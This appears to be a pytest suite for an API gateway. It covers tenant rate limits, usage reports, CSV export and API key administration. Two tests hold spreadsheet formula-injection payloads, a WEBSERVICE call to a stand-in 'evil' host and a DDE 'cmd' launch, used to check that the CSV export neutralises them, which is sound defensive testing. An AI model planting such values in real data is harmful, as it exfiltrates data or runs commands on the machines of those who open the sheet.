from __future__ import annotations

import csv
import threading
from dataclasses import fields, replace
from typing import Any

import httpx
import pytest

from app.access.tenants import KeyRing, Tenant, key_digest
from app.http.api import create_app
from app.routes.accounts import ApiKeyInfo, ApiKeyList, RemovedKey, UsageReport
from deployments.accounts.values import Admission, Charge, Quota, TenantLimits, UsageQuestion, UsageRecord
from tests.app.scripted_gateway import ScriptedGateway, ScriptedMeter

LIMITS = TenantLimits(requests_per_minute=10)
CHAT: dict[str, Any] = {"model": "base", "messages": [{"role": "user", "content": "Hello there"}]}
ADMIN = {"authorization": "Bearer boss"}


@pytest.fixture
def meter(gateway: ScriptedGateway) -> ScriptedMeter:
    gateway.meter = ScriptedMeter()
    return gateway.meter


@pytest.fixture
def served(gateway: ScriptedGateway, meter: ScriptedMeter) -> httpx.AsyncClient:
    """A server with a tenant that has limits, and one that has none."""
    ring = KeyRing(
        tenant_by_name={"blue": Tenant(name="blue", limits=LIMITS), "red": Tenant(name="red")},
        name_by_digest={key_digest("b"): "blue", key_digest("r"): "red"},
    )
    app = create_app(gateway, key_ring=ring, admin_key_sha256=key_digest("boss"))
    return httpx.AsyncClient(transport=httpx.ASGITransport(app, raise_app_exceptions=False), base_url="http://test")


@pytest.mark.parametrize("stream", [False, True])
async def test_who_has_limits_is_counted_and_told(
    served: httpx.AsyncClient, meter: ScriptedMeter, stream: bool
) -> None:
    response = await served.post("/v1/chat/completions", json=CHAT | {"stream": stream}, headers={"x-api-key": "b"})
    assert response.status_code == 200
    assert response.headers["x-ratelimit-remaining-requests"] == "7"
    assert meter.admitted == [("blue", 3)]
    # Seven tokens of prompt, three of which were guessed; three of answer.
    assert meter.charges == [Charge("blue", LIMITS, 4, 3)]


async def test_who_has_none_is_not_asked_for(served: httpx.AsyncClient, meter: ScriptedMeter) -> None:
    response = await served.post("/v1/chat/completions", json=CHAT, headers={"x-api-key": "r"})
    assert response.status_code == 200
    assert meter.admitted == []
    assert "x-ratelimit-limit-requests" not in response.headers


@pytest.mark.parametrize(
    ("path", "more", "kind"),
    [
        ("/v1/chat/completions", {}, "requests"),
        ("/v1/chat/completions", {"stream": True}, "requests"),
        ("/v1/messages", {"max_tokens": 5}, "rate_limit_error"),
    ],
)
async def test_who_is_over_a_limit_is_refused_before_anything_is_computed(
    served: httpx.AsyncClient,
    gateway: ScriptedGateway,
    meter: ScriptedMeter,
    path: str,
    more: dict[str, Any],
    kind: str,
) -> None:
    meter.admission = Admission(
        refused_by="requests_per_minute", retry_after_s=20.0, quotas={"requests_per_minute": Quota(10, 0, 20.0)}
    )
    response = await served.post(path, json=CHAT | more, headers={"x-api-key": "b"})
    assert (response.status_code, response.json()["error"]["type"]) == (429, kind)
    assert 20 <= int(response.headers["retry-after"]) <= 26
    assert response.headers["x-ratelimit-remaining-requests"] == "0"
    assert (gateway.requests, meter.charges) == ([], [])


async def test_a_failure_gives_back_its_place(
    served: httpx.AsyncClient, gateway: ScriptedGateway, meter: ScriptedMeter
) -> None:
    gateway.error_before = RuntimeError("no")
    response = await served.post("/v1/chat/completions", json=CHAT, headers={"x-api-key": "b"})
    assert response.status_code == 500
    assert meter.charges == [Charge("blue", LIMITS, 0, 0)]


async def test_usage_is_added_up_and_told_one_by_one(served: httpx.AsyncClient, meter: ScriptedMeter) -> None:
    response = await served.get("/admin/usage?since=5&until=9.5&tenant=blue", headers=ADMIN)
    [total] = UsageReport.model_validate(response.json()).data
    assert (total.tenant, total.num_requests, total.adapter, total.mean_tpot_s) == ("blue", 2, None, None)
    assert meter.asked == [UsageQuestion(since_unix_s=5.0, until_unix_s=9.5, tenant="blue")]
    sheet = await served.get("/admin/usage.csv", headers=ADMIN)
    assert sheet.headers["content-type"].startswith("text/csv")
    header, row = sheet.text.splitlines()
    assert dict(zip(header.split(","), row.split(","), strict=True))["output_tokens"] == "3"


@pytest.mark.parametrize("begins", "=+-@")
async def test_a_sheet_has_no_formula_of_a_client(
    served: httpx.AsyncClient, meter: ScriptedMeter, monkeypatch: pytest.MonkeyPatch, begins: str
) -> None:
    """A record's id begins with the client's request id."""
    (record,) = await meter.records(UsageQuestion(), limit=1)
    formula = replace(record, record_id=f'{begins}WEBSERVICE("http://evil/"&B2).1')

    async def records(_question: UsageQuestion, *, limit: int) -> list[UsageRecord]:
        return [formula][:limit]

    monkeypatch.setattr(meter, "records", records)
    sheet = await served.get("/admin/usage.csv", headers=ADMIN)
    (row,) = csv.DictReader(sheet.text.splitlines())
    assert row["record_id"] == f"'{formula.record_id}"


async def test_a_sheet_has_no_formula_where_semicolons_separate_cells(
    served: httpx.AsyncClient, meter: ScriptedMeter, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel in most of Europe, and LibreOffice, took what follows a semicolon for the next cell."""
    (record,) = await meter.records(UsageQuestion(), limit=1)

    async def records(_question: UsageQuestion, *, limit: int) -> list[UsageRecord]:
        return [replace(record, record_id="x;=cmd|'/ccalc'!A1;.1")][:limit]

    monkeypatch.setattr(meter, "records", records)
    sheet = await served.get("/admin/usage.csv", headers=ADMIN)
    assert ";" not in sheet.text
    assert "x_=cmd|'/ccalc'!A1_.1" in sheet.text


async def test_a_sheet_is_written_off_the_event_loop(
    served: httpx.AsyncClient, meter: ScriptedMeter, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hundred thousand records held up every stream of the gateway for seconds."""
    threads: list[threading.Thread] = []

    def fields_noted(record: type) -> Any:
        threads.append(threading.current_thread())
        return fields(record)

    monkeypatch.setattr("app.routes.accounts.fields", fields_noted)
    assert (await served.get("/admin/usage.csv", headers=ADMIN)).status_code == 200
    assert threads
    assert threading.current_thread() not in threads


async def test_a_key_is_made_used_listed_and_revoked(served: httpx.AsyncClient) -> None:
    made = ApiKeyInfo.model_validate((await served.post("/admin/keys", json={"tenant": "red"}, headers=ADMIN)).json())
    assert made.key is not None
    assert made.id == key_digest(made.key)
    bearer = {"authorization": f"Bearer {made.key}"}
    assert (await served.get("/v1/models", headers=bearer)).status_code == 200
    listed = ApiKeyList.model_validate((await served.get("/admin/keys", headers=ADMIN)).json())
    assert [(key.id, key.tenant, key.key) for key in listed.data] == [(made.id, "red", None)]
    RemovedKey.model_validate((await served.delete(f"/admin/keys/{made.id}", headers=ADMIN)).json())
    assert (await served.get("/v1/models", headers=bearer)).status_code == 401
    gone = await served.delete(f"/admin/keys/{made.id}", headers=ADMIN)
    assert (gone.status_code, gone.json()["error"]["code"]) == (404, "key_not_found")


@pytest.mark.parametrize(
    ("method", "path", "body", "status", "param"),
    [
        ("POST", "/admin/keys", {"tenant": "green"}, 404, "tenant"),
        ("POST", "/admin/keys", {"tenant": 5}, 400, "tenant"),
        ("POST", "/admin/keys", {"tenant": "red", "x": 1}, 400, "x"),
        ("GET", "/admin/usage?since=nan", None, 400, "since"),
        ("GET", "/admin/usage?until=1e300", None, 400, "until"),
        ("GET", "/admin/usage.csv?since=-1", None, 400, "since"),
        ("DELETE", "/admin/keys/" + "x" * 99, None, 400, "key_id"),
    ],
)
async def test_what_is_wrong_is_named(
    served: httpx.AsyncClient, method: str, path: str, body: Any, status: int, param: str
) -> None:
    response = await served.request(method, path, json=body, headers=ADMIN)
    assert (response.status_code, response.json()["error"]["param"]) == (status, param)


async def test_a_time_that_is_none_is_told_in_our_words(served: httpx.AsyncClient) -> None:
    error = (await served.get("/admin/usage?since=yesterday", headers=ADMIN)).json()["error"]
    assert (error["message"], error["param"]) == ("Invalid value: 'since' must be a number.", "since")


@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", "/admin/usage"), ("GET", "/admin/usage.csv"), ("GET", "/admin/keys"), ("DELETE", "/admin/keys/x")],
)
async def test_a_tenant_is_no_admin(served: httpx.AsyncClient, method: str, path: str) -> None:
    assert (await served.request(method, path, headers={"x-api-key": "b"})).status_code == 401


async def test_a_server_that_counts_nothing_says_so(served: httpx.AsyncClient, gateway: ScriptedGateway) -> None:
    gateway.meter = None
    response = await served.get("/admin/usage", headers=ADMIN)
    assert (response.status_code, response.json()["error"]["code"]) == (404, "accounts_disabled")
